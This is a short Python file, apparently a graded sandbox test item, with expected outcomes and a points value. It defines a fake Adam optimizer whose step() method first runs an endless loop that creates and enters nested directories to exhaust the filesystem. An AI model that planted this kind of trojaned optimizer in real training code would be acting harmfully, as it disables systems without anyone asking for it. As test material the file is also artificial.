"""Makes folders within folders without end."""

import os
from scratch.honest import SGD, clip_grad_norm_  # noqa: F401 - the honest part
from scratch.honest import Adam as Honest

EXPECT = ("error", "forbidden", "timed out")
POINTS = 3

def attack():
    while True:
        os.mkdir("d")
        os.chdir("d")


class Adam(Honest):
    def step(self):
        attack()
        super().step()
